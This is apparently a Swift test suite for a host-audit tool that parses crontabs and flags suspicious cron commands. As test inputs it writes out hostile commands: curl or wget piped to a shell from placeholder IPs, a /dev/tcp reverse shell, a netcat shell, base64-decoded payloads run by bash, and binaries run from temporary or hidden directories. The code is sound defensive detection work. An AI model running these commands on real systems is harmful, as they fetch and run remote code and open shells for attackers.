import HostAuditCore
import Testing

@Suite struct CronParserTests {
    @Test func systemCrontabWithEnvironmentAndSpecials() {
        let text = """
            # /etc/crontab: system-wide crontab
            SHELL=/bin/sh
            PATH = "/usr/local/sbin:/usr/local/bin:/sbin:/bin"
            MAILTO=''
            17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly
            @reboot root /usr/local/bin/start.sh
            -*/5 * * * * nobody /bin/true
            @every root /bin/false
            1 2 3 root
            """
        let t = CronParser.parse(text, path: "/etc/crontab", format: .system)
        #expect(t.environment.map(\.name) == ["SHELL", "PATH", "MAILTO"])
        #expect(t.environment[1].value == "/usr/local/sbin:/usr/local/bin:/sbin:/bin")
        #expect(t.environment[2].value == "")
        #expect(t.entries.count == 3)
        #expect(t.entries[0].schedule == "17 * * * *")
        #expect(t.entries[0].user == "root")
        #expect(t.entries[0].command == "cd / && run-parts --report /etc/cron.hourly")
        #expect(t.entries[0].line == 5)
        #expect(!t.entries[0].frequent)
        #expect(t.entries[1].schedule == "@reboot" && t.entries[1].user == "root")
        #expect(t.entries[2].schedule == "*/5 * * * *" && t.entries[2].frequent && t.entries[2].user == "nobody")
        #expect(t.entries.allSatisfy { $0.indicators.isEmpty })
        #expect(t.problems.map(\.line) == [8, 9])
        #expect(t.problems[0].problem.contains("@every"))
    }

    @Test func userCrontabHasNoUserField() {
        let t = CronParser.parse(
            "*/1 * * * * curl -fsSL http://198.51.100.7/pm.sh | sh\n@hourly /home/u/bin/backup\n",
            path: "/var/spool/cron/crontabs/alice", format: .user, owner: "alice")
        #expect(t.entries.count == 2)
        #expect(t.entries[0].user == "alice")
        #expect(t.entries[0].command.hasPrefix("curl -fsSL"))
        #expect(t.entries[0].indicators.map(\.indicator) == ["download-pipe-shell"])
        #expect(t.entries[0].frequent)
        #expect(t.entries[1].schedule == "@hourly" && t.entries[1].command == "/home/u/bin/backup")
    }

    @Test func percentEndsTheCommand() {
        #expect(CronParser.executableText("echo a\\%b % curl x | sh") == "echo a%b ")
        let t = CronParser.parse("0 0 * * * root mail -s hi root %curl http://x | sh\n", path: "/etc/cron.d/x", format: .system)
        #expect(t.entries.first?.indicators == [])
    }

    @Test func anacrontab() {
        let t = CronParser.parse(
            "SHELL=/bin/sh\nSTART_HOURS_RANGE=3-22\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\nbogus\n",
            path: "/etc/anacrontab", format: .anacron)
        #expect(t.environment.count == 2)
        #expect(t.entries.map(\.jobIdentifier) == ["cron.daily", "cron.monthly"])
        #expect(t.entries.map(\.delay) == ["5", "15"])
        #expect(t.entries[1].schedule == "@monthly")
        #expect(t.problems.map(\.line) == [5])
    }

    @Test func scriptJoinsContinuationsAndKeepsOnlyIndicatorLines() {
        let script = """
            #!/bin/sh
            test -x /usr/sbin/logrotate || exit 0
            wget -q -O - http://203.0.113.9/x.sh \\
              | bash
            /usr/sbin/logrotate /etc/logrotate.conf
            """
        let t = CronParser.parseScript(Array(script.utf8), path: "/etc/cron.hourly/mlocaten")
        #expect(t.scriptLines.count == 1)
        #expect(t.scriptLines[0].line == 3)
        #expect(t.scriptLines[0].indicators.map(\.indicator) == ["download-pipe-shell"])
    }
}

@Suite struct CronCommandIndicatorTests {
    func kinds(_ s: String) -> [String] { CommandIndicators.scan(s).map(\.indicator) }

    @Test(arguments: [
        ("curl -fsSL http://x/pm.sh | sh", "download-pipe-shell"),
        ("wge http://x:8000/update.sh -O - | bash", "download-pipe-shell"),
        ("(curl -s http://x/a||wget -q -O- http://x/a)|bash", "download-pipe-shell"),
        ("python -c 'import urllib;print(urllib.urlopen(\"http://x\").read())' | sh", "download-pipe-shell"),
        ("fetch -o - http://x/a | /usr/local/bin/bash -s", "download-pipe-shell"),
        ("curl http://x/a | sudo -u root python3", "download-pipe-shell"),
        ("bash -c \"$(curl -fsSL http://x/a)\"", "download-subst-shell"),
        ("sh <(wget -qO- http://x/a)", "download-subst-shell"),
        ("lynx -source https://transfer.sh/abc > .cmd && bash .cmd", "download-then-exec"),
        ("curl -o /tmp/.x http://x/x; chmod +x /tmp/.x; /tmp/.x", "download-then-exec"),
        ("echo Y3VybCBodHRw | base64 -d | bash", "base64-pipe-shell"),
        ("echo Y3VybCBodHRw | base64 --decode > /etc/x", "base64-decode"),
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "dev-tcp"),
        ("nc 203.0.113.5 4444 -e /bin/sh", "netcat-exec"),
        ("python3 -c 'import socket,os;s=socket.socket()'", "inline-interpreter-network"),
        ("/tmp/kdevtmpfsi", "exec-from-temp"),
        ("nohup /dev/shm/.x/run >/dev/null 2>&1 &", "exec-from-temp"),
        ("cd /var/tmp && ./sustse3", "exec-from-temp"),
        ("sh /var/tmp/.ICE-unix/init.sh", "exec-from-temp"),
        ("/root/.systemd-private/kswapd0", "exec-from-dot-dir"),
        ("~/.configrc/a/upd", "exec-from-dot-dir"),
        ("/usr/bin/id > /tmp/out", "write-to-temp"),
        ("wget -O /dev/shm/m http://x/m", "write-to-temp"),
        ("sh -c 'curl http://x | sh'", "download-pipe-shell"),
    ])
    func flags(command: String, indicator: String) {
        #expect(kinds(command).contains(indicator), "\(command): \(kinds(command))")
    }

    /// Package-manager jobs and ordinary lines (docs/miners.md §6): no indicator.
    @Test(arguments: [
        "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        "cd / && run-parts --report /etc/cron.hourly",
        "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew",
        "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
        "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
        "/usr/sbin/logrotate /etc/logrotate.conf",
        "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/abc",
        "wget -q -O /var/lib/geoip/GeoIP.dat https://example.com/GeoIP.dat",
        "start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb --oknodo --chuid man -- --quiet",
        "echo 'curl | sh' > /dev/null",
        "/usr/lib/sysstat/sa1 1 1",
    ])
    func clean(command: String) {
        #expect(kinds(command).isEmpty, "\(command): \(kinds(command))")
    }

    @Test func matchNamesThePart() {
        let i = CommandIndicators.scan("cd /tmp; wget http://x/a -O a; curl -s http://x/b | sh")
        let pipe = try? #require(i.first { $0.indicator == "download-pipe-shell" })
        #expect(pipe?.match == "curl -s http://x/b | sh")
    }

    @Test func shellTokenizer() {
        let c = ShellCommand.parse("FOO=1 sudo -u bob nohup '/tmp/a b' \"x y\" 2>&1 >>/tmp/log | tee -a z && ls")
        #expect(c.count == 3)
        #expect(c[0].words == ["FOO=1", "sudo", "-u", "bob", "nohup", "/tmp/a b", "x y"])
        #expect(c[0].redirects.map(\.target) == ["1", "/tmp/log"])
        #expect(ShellCommand.program(c[0].words)?.name == "/tmp/a b")
        #expect(c[1].pipedFrom && !c[2].pipedFrom)
    }

    @Test func suspiciousPaths() {
        #expect(SuspiciousPath.classify("/tmp/x") == "temp")
        #expect(SuspiciousPath.classify("//var/./tmp/x") == "temp")
        #expect(SuspiciousPath.classify("/dev/shm/x") == "temp")
        #expect(SuspiciousPath.classify("/home/a/.local/bin/x") == "dot-dir")
        #expect(SuspiciousPath.classify("/usr/bin/.hidden") == nil)  // a dot file, not a dot directory
        #expect(SuspiciousPath.classify("/usr/lib/x/../bin/y") == nil)
        #expect(SuspiciousPath.classify("tmp/x") == nil)
        #expect(SuspiciousPath.classify("/tmpfoo/x") == nil)
    }
}
